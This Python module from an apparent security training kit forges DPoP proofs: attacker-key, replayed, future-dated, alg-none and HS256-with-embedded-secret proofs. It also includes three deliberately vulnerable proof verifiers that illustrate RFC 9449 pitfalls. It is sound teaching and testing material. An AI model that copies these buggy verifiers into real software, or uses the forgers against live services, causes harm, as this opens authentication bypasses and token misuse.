"""Attacks on DPoP (RFC 9449): what a thief does with a bound token, and three verifier bugs.

The forgers build the requests an attacker sends; ``labkit.dpop.verify_proof``
and the hardened gateway refuse every one of them. Three of them need a
verifier bug that lives in proof-checking code, so each has its vulnerable
verifier here, named for its bug and otherwise ``labkit.dpop.verify_proof``:

- ``verify_alg_from_header``: the proof's own ``alg`` is believed, so ``none``
  skips the signature and ``HS256`` is checked with the ``k`` of the proof's
  own ``jwk`` (RFC 9449 sections 4.2 and 11.6 forbid both);
- ``verify_without_future_bound``: ``iat`` may lie any time ahead, so proofs
  made in advance by code that ran once in the client work later (11.2);
- ``verify_without_key_binding``: the proof is checked, but its key is never
  compared with the token's ``cnf.jkt`` (section 6), so a thief signs with a
  key of their own.

The other four attacks (a stolen token without any proof, a replayed proof,
a proof for another method or URL, and a proof made for another token) need
the gateway's flaws: the ``dpop-*`` presets of ``labkit.aws.presets``.
"""

from __future__ import annotations

import hmac
import math
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec

from labkit import algorithms, dpop, keys, tokens
from labkit.attacks.forgery import Forgery
from labkit.errors import BadSignatureError, MalformedTokenError

__all__ = [
    "attacker_key",
    "forge_future_proof",
    "forge_hmac_proof",
    "forge_none_proof",
    "forge_own_key_proof",
    "forge_proof_for",
    "verify_alg_from_header",
    "verify_without_future_bound",
    "verify_without_key_binding",
]


def attacker_key() -> ec.EllipticCurvePrivateKey:
    """A fresh P-256 key the attacker holds (not the victim's: that one never leaves the client)."""
    return ec.generate_private_key(ec.SECP256R1())


# Forgers -----------------------------------------------------------------------------------------


def forge_own_key_proof(htm: str, htu: str, access_token: str, **kw: Any) -> Forgery:
    """A stolen token with a perfect proof by the ATTACKER's key: only ``cnf.jkt`` differs."""
    proof = dpop.make_proof(attacker_key(), htm, htu, access_token=access_token, **kw)
    return Forgery(proof, "a valid proof, but by a key the token is not bound to (cnf.jkt)")


def forge_proof_for(key: Any, htm: str, htu: str, access_token: str, **kw: Any) -> Forgery:
    """A proof by the right key for another method or URL (captured, then sent elsewhere)."""
    proof = dpop.make_proof(key, htm, htu, access_token=access_token, **kw)
    return Forgery(proof, f"a genuine proof for {htm} {htu}, sent with another request")


def forge_future_proof(
    key: Any, htm: str, htu: str, access_token: str, *, now: float, ahead: float = 3600, **kw: Any
) -> Forgery:
    """A proof dated ``ahead`` seconds in the future: made in advance, used later (11.2)."""
    proof = dpop.make_proof(key, htm, htu, access_token=access_token, iat=int(now + ahead), **kw)
    return Forgery(proof, f"a proof whose iat is {ahead:g} s in the future: pre-generated")


def forge_none_proof(
    jwk: dict[str, Any], htm: str, htu: str, access_token: str, *, now: float, **claims: Any
) -> Forgery:
    """An unsigned ``alg: none`` proof carrying the victim's PUBLIC jwk: no private key needed."""
    header = {"typ": dpop.TYP, "alg": "none", "jwk": dict(jwk)}
    body = _claims(htm, htu, access_token, now, claims)
    return Forgery(tokens.encode(header, body), "alg none with the victim's public key in jwk")


def forge_hmac_proof(
    secret: bytes, htm: str, htu: str, access_token: str, *, now: float, **claims: Any
) -> Forgery:
    """An HS256 "proof" whose key travels in its own ``jwk`` (an ``oct`` key: the secret itself).

    Whoever sees one such proof reads the secret from its header and signs new ones.
    """
    jwk = {"kty": "oct", "k": tokens.b64url_encode(secret)}
    header = {"typ": dpop.TYP, "alg": "HS256", "jwk": jwk}
    body = _claims(htm, htu, access_token, now, claims)
    signature = algorithms.sign("HS256", secret, tokens.signing_input(header, body))
    return Forgery(tokens.encode(header, body, signature), "HS256, the secret in the jwk header")


def _claims(htm: str, htu: str, access_token: str, now: float, extra: dict[str, Any]) -> dict:
    import secrets

    return {
        "jti": secrets.token_urlsafe(16),
        "htm": htm,
        "htu": htu,
        "iat": int(now),
        "ath": dpop.access_token_hash(access_token),
        **extra,
    }


# Vulnerable verifiers: labkit.dpop.verify_proof with one bug each --------------------------------


def verify_alg_from_header(proof: str, **kw: Any) -> dict[str, Any]:
    """BUG: the proof's ``alg`` decides: ``none`` is unsigned, HS* uses the jwk's own ``k``.

    The claims are then checked as ``labkit.dpop.verify_proof`` checks them.
    """
    parsed = tokens.parse(proof)
    alg, jwk = parsed.header.get("alg"), parsed.header.get("jwk")
    if not isinstance(jwk, dict):
        raise MalformedTokenError("the proof has no jwk")
    if str(alg).lower() != "none":  # BUG: "none" means "nothing to check"
        key = keys.from_jwk(jwk)  # BUG: an oct jwk is a secret anyone who saw the proof knows
        if not algorithms.verify(str(alg), key, parsed.signing_input, parsed.signature):
            raise BadSignatureError("the proof's signature does not verify")
    claims = parsed.payload
    dpop._check_claims(claims, kw.get("access_token") is not None)
    if claims["htm"] != kw["htm"] or dpop.normalize_htu(claims["htu"]) != dpop.normalize_htu(
        kw["htu"]
    ):
        raise dpop.ProofMismatchError("the proof is for another request")
    dpop._check_iat(claims["iat"], kw["now"], dpop.MAX_AGE, dpop.LEEWAY)
    if kw.get("access_token") is not None:
        if not hmac.compare_digest(claims["ath"], dpop.access_token_hash(kw["access_token"])):
            raise dpop.ProofMismatchError("the proof's ath is not this token's hash")
        if kw.get("jkt") != keys.thumbprint(jwk):
            raise dpop.KeyBindingError("the proof's key is not the token's cnf.jkt")
    return claims


def verify_without_future_bound(proof: str, **kw: Any) -> dict[str, Any]:
    """BUG: ``iat`` is only checked for age: a proof dated next week is accepted now."""
    return dpop.verify_proof(proof, **{**kw, "leeway": math.inf}).claims


def verify_without_key_binding(proof: str, **kw: Any) -> dict[str, Any]:
    """BUG: the proof's key is compared with itself, never with the token's ``cnf.jkt``."""
    jwk = tokens.parse(proof).header.get("jwk")
    own = keys.thumbprint(jwk) if isinstance(jwk, dict) else None
    return dpop.verify_proof(proof, **{**kw, "jkt": own}).claims
